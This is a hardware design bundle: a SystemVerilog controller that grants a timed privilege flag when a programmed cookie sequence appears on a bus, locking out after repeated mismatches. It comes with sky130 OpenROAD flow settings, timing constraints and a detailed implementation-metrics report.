==> src/rtl/sorath_ctrl.sv <==
// Cookie-sequence privilege controller: watches a bus for a programmed multi-word cookie and
// grants a timed privilege flag, locking out after repeated mismatches.
module sorath_ctrl #(
   parameter int unsigned COOKIE_WORDS  = 4,
   parameter int unsigned GAP_MAX       = 8,
   parameter int unsigned HOLD_CYCLES   = 256,
   parameter int unsigned LOCKOUT_FAILS = 3
) (
   input  logic        HCLK,
   input  logic        HRESET,
   input  logic [31:0] HWDATA,
   input  logic        HWVALID,
   input  logic        CFG_WE,
   input  logic [1:0]  CFG_ADDR,
   input  logic [31:0] CFG_WDATA,
   input  logic        CFG_ARM,
   input  logic        CFG_DISARM,
   output logic        PRIV_GRANT,
   output logic        ARMED,
   output logic        LOCKED,
   output logic [1:0]  MATCH_IDX
);

   localparam logic [2:0] StIdle  = 3'd0;
   localparam logic [2:0] StHunt  = 3'd1;
   localparam logic [2:0] StMatch = 3'd2;
   localparam logic [2:0] StGrant = 3'd3;
   localparam logic [2:0] StLock  = 3'd4;

   localparam int unsigned GapW  = (GAP_MAX < 1) ? 1 : $clog2(GAP_MAX + 1);
   localparam int unsigned HoldW = $clog2(HOLD_CYCLES + 1);
   localparam int unsigned FailW = $clog2(LOCKOUT_FAILS + 1);

   localparam logic [GapW-1:0]  GapMax   = GapW'(GAP_MAX);
   localparam logic [HoldW-1:0] HoldLast = HoldW'(HOLD_CYCLES - 1);
   localparam logic [FailW-1:0] FailLock = FailW'(LOCKOUT_FAILS);
   localparam logic [2:0]       Words    = 3'(COOKIE_WORDS);

   logic [2:0]       state_q, state_d;
   logic [1:0]       idx_q, idx_d;
   logic [GapW-1:0]  gap_q, gap_d, gap_inc;
   logic [HoldW-1:0] hold_q, hold_d;
   logic [FailW-1:0] fail_q, fail_d, fail_inc;
   logic             priv_q;
   logic [31:0]      cookie_q [4];
   logic [2:0]       idx_inc;
   logic             word_eq, first_eq;

   // Shared comparator; the restart check needs the first word as well.
   assign word_eq  = (HWDATA == cookie_q[idx_q]);
   assign first_eq = (HWDATA == cookie_q[0]);
   assign idx_inc  = {1'b0, idx_q} + 3'd1;
   assign gap_inc  = (&gap_q) ? gap_q : gap_q + 1'b1;
   assign fail_inc = (&fail_q) ? fail_q : fail_q + 1'b1;

   always_comb begin
      state_d = state_q;
      idx_d   = idx_q;
      gap_d   = gap_q;
      hold_d  = hold_q;
      fail_d  = fail_q;
      case (state_q)
         StIdle: begin
            if (CFG_ARM) state_d = StHunt;
         end
         StHunt, StMatch, StGrant: begin
            if (CFG_DISARM) begin
               state_d = StIdle;
               idx_d   = 2'd0;
               gap_d   = '0;
               hold_d  = '0;
            end else if (state_q == StGrant) begin
               if (hold_q >= HoldLast) begin
                  state_d = StHunt;
                  hold_d  = '0;
               end else begin
                  hold_d = hold_q + 1'b1;
               end
            end else if (HWVALID && word_eq &&
                         ((state_q == StHunt && Words == 3'd1) ||
                          (state_q == StMatch && idx_inc == Words))) begin
               state_d = StGrant;
               idx_d   = 2'd0;
               gap_d   = '0;
               hold_d  = '0;
               fail_d  = '0;
            end else if (HWVALID && word_eq) begin
               state_d = StMatch;
               idx_d   = idx_inc[1:0];
               gap_d   = '0;
            end else if (state_q == StMatch && HWVALID) begin
               fail_d = fail_inc;
               gap_d  = '0;
               if (fail_inc >= FailLock) begin
                  state_d = StLock;
                  idx_d   = 2'd0;
               end else if (first_eq) begin
                  idx_d = 2'd1;
               end else begin
                  state_d = StHunt;
                  idx_d   = 2'd0;
               end
            end else if (state_q == StMatch) begin
               gap_d = gap_inc;
               if (gap_inc >= GapMax) begin
                  state_d = StHunt;
                  idx_d   = 2'd0;
                  gap_d   = '0;
               end
            end
         end
         default: ;
      endcase
   end

   always_ff @(posedge HCLK or posedge HRESET) begin
      if (HRESET) begin
         state_q <= StIdle;
         idx_q   <= 2'd0;
         gap_q   <= '0;
         hold_q  <= '0;
         fail_q  <= '0;
         priv_q  <= 1'b0;
         for (int i = 0; i < 4; i++) cookie_q[i] <= 32'd0;
      end else begin
         state_q <= state_d;
         idx_q   <= idx_d;
         gap_q   <= gap_d;
         hold_q  <= hold_d;
         fail_q  <= fail_d;
         priv_q  <= (state_d == StGrant);
         if (state_q == StIdle && CFG_WE) cookie_q[CFG_ADDR] <= CFG_WDATA;
      end
   end

   assign PRIV_GRANT = priv_q;
   assign ARMED      = (state_q == StHunt) || (state_q == StMatch) || (state_q == StGrant);
   assign LOCKED     = (state_q == StLock);
   assign MATCH_IDX  = idx_q;

endmodule

==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = sorath_ctrl
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/sorath_ctrl.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CORE_ASPECT_RATIO = 0.9
export CORE_MARGIN = 1
export CORE_UTILIZATION = 46
export CTS_CLUSTER_DIAMETER = 40
export DETAILED_ROUTE_END_ITERATION = 8
export PLACE_DENSITY_LB_ADDON = 0.08
export SLEW_MARGIN = 30
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name HCLK -period 9.8 [get_ports HCLK]
set_input_delay 1.47 -clock HCLK [delete_from_list [all_inputs] [get_ports HCLK]]
set_output_delay 1.47 -clock HCLK [all_outputs]
set_load 0.03 [all_outputs]
==> impl_metrics.yaml <==
die:
  initial_utilization_pct: 47.7
  num_rows: 46
  die_w_um: 145
  core_um2: 17800
  die_h_um: 131
  dieArea_um2: 19000
  ios: 77
timing:
  skew_ns: 0.0122
  setup_tns_ns: 0
  fin_crit_sh_pct: 36.8
  hold_viol_final: 0
  slew_violations: 0
  relSlewSlack_pct: 43.4
  clock.fmax_mhz: 278
  fin_crit_ns: 3.60
  setup_viol: 0
  tightestPinTransition_ns: 0.842
  rsz0062_at_grt: "false"
  holdWs_ns: 0.484
clock_tree:
  postCtsSetupRepairBufs: 0
  cts_resized: 0
  clkSlewWorstSetupHoldPaths_ns: 0.07
  cts_buffer_depth: 2
  hold_buffers: 0
  cts_tree: "yes"
  cts_buffers: 17
  cts_root_buffer: "clkbuf_16"
  cts.sink_count: 149
  clk_latency_ns: 0.44
  htreeDepth: 4
power_and_ir_drop:
  power_switching_share_pct: 26.4
  p_int_uw: 990
  p_per_area_nw_per_um2: 135
  power_frac_comb_pct: 7.2
  p_leak_uw: 0.00453
  max-vdd-ir-drop_v: 0.000100
  power_switching_uw: 356
  seq_power_share_pct: 45.7
  clock_power_share_pct: 47.2
job:
  cap_viol_max_count: 0
finish:
  nets: 1326
  syn2layout_area_growth_pct: 16.9
  antenna_cells: 0
  drive_gt1_share_pct: 5.78
logic_synthesis:
  ys_warn_count: 0
  ys_async_sr_fraction_pct: 100
  synthTopCellsByArea: "dfrtp_1 (44%), nand2_1 (21%), o21ai_0 (8.3%)"
  avgSynthCellArea_um2: 7.13
  synthDominantCellAreaShare_pct: 43.8
  synth_nets: 1269
  yosysMostFrequentCell: "nand2_1"
  syn-cell-area_um2: 8510
  yosysTopAreaCell: "dfrtp_1"
  seq_area_frac_synth_pct: 43.8
  yosys_register_bits: 149
  synthFlopType: "dfrtp_1"
  synth_edf_count: 0
  synth_common_cells: "nand2_1 (467), dfrtp_1 (149), o21ai_0 (141)"
  synthCells: 1193
  synthDistinctLibCells: 31
placed_design:
  numPortBuffers: 76
  dp_hpwl_um: 16500
  globalplace.congestion: 0.960
routing:
  drt_iter0_markers: 557
  vias: 7825
  ant_nets: 0
  avgRoutedWirePerCell_um: 15.6
  drc: 0
  viasPerCell: 5.21
  routed_wirelength_um: 23500
  detail_route.first_pass.iterations: 7
critical_path:
  slowest_stage: "dfrtp_1"
  path_buf_inv: 1
  critPathCaptureType: "primary output"
  worstPathArrival_ns: 2.13
  cp_top_family: "flip-flops"
  startpoint_type: "flip-flop"
  cp.required_ns: 8.33
  worstSetupPathType: "reg -> out"
  slowest_delay_ns: 0.88
  path_cells: "clkdlybuf4s50_1"
  critical_path.max_fanout: 21
global_route:
  grt_overflow: 0
  grt_start_max_net_pins: 78
  grt_pass1_wl_um: 38700
  grt.met3_usage_pct: 4.76
  met1_usage_pct: 37.1
  track_usage_pct: 26.2
  antenna_found_initial: 0
  grt-busiest-layer: "met2"
  grt_pass1_vias: 7255
  met2_usage_pct: 41.6
min_path:
  hold_path.class: "reg -> reg"
status:
  status: "completed"
-- kinds of logic (layout without fill, tap and decap cells) --
logic type	Yosys count	count (layout)	synth area share [%]
AND/OR/NAND/NOR	717	717	35.4
AO/OA/AOI/OAI	153	153	9.23
flip-flops	149	149	43.8
buffers and inverters	134	204	7.13
XOR/XNOR	36	36	3.88
adder cells (fa/ha/maj)	4	4	0.588
-- per-stage QoR --
stage,std cells,utilization (%),worst slack [ns],power [uW],instance area [um2]
4_1_cts,1503,55.7,6.19,1350,9950
3_5_place_dp,1471,52.6,6.17,723,9380
2_1_floorplan,1193,-,4.32,671,8510
5_1_grt,1503,55.8,6.11,1390,9950
3_3_place_gp,1471,52.5,6.23,722,9370
6_report,1503,55.8,6.20,1350,9950
-- power groups by stage --
stage	registers, uW	logic (uW)	clock network, uW
2_1_floorplan	627	44.0	0
3_5_place_dp	626	96.1	0
4_1_cts	615	96.7	643
6_report	615	96.3	635
5_1_grt	614	107	672
3_3_place_gp	626	95.9	0
-- registers in the layout (all words and copies together) (netlist names) --
signal      cells
PRIV_GRANT      1
hold_q          9
fail_q          2
MATCH_IDX       2
cookie_q      128
gap_q           4
state_q         3
-- metal layers --
metal  routed length (um)  up-vias  share of wire (%)
met2                10500      222                 45
met3                 1390       24                5.9
li1                     -     3931                  -
met1                11300     3648                 48
met5                    0        -                  0
met4                  278        0                1.2
-- path summary, 6_finish.rpt --
path	start	endpoint	slack, ns	cells past startpoint
max in group asynchronous	HRESET	cookie_q[9]$_DFFE_PP0P_	7.17	3
worst min-delay path	hold_q[7]$_DFFE_PP0P_	hold_q[7]$_DFFE_PP0P_	0.48	1
min in group asynchronous	HRESET	cookie_q[57]$_DFFE_PP0P_	1.52	2
worst min register to register	hold_q[7]$_DFFE_PP0P_	hold_q[7]$_DFFE_PP0P_	0.48	1
worst max register to register	MATCH_IDX[1]$_DFFE_PP0P_	MATCH_IDX[1]$_DFFE_PP0P_	6.37	16
worst max-delay path	MATCH_IDX[1]$_DFFE_PP0P_	MATCH_IDX[1]	6.20	1
-- worst reg2reg max path: stages, from the launching register on --
cell     delay [ns]
dfrtp_1        0.88
buf_4          0.40
inv_2          0.34
nand3_1        0.24
nand2_1        0.07
nand2_1        0.15
nand2_1        0.07
nor2_1         0.14
nand2_1        0.11
inv_1          0.07
nand2_1        0.05
nor2_2         0.10
nand3_2        0.16
a21oi_4        0.24
nand2_1        0.13
nand2_1        0.07
o21ai_1        0.08
-- layout make-up --
type                    count  area (um2)
clock buffers              17         425
clock inverters            15         138
fillers                  1817        7890
inverters                  89         339
multi-input cells         910        4200
flip-flops and latches    149        3730
well taps                 240         300
repair buffers             83         817
-- layout by cell type, fill, tap and decap left out, drive strengths merged, types with 7 or more instances in the layout --
cell and instances:
nand2 468, dfrtp 149, o21ai 144, nand3 113
inv 97, nor2 81, clkdlybuf4s50 76, xnor2 29
nand4 18, clkbuf 17, nand3b 13, or2 10
nor3 10, buf 7, xor2 7
No activity file was read; power rests on OpenSTA's default activity.
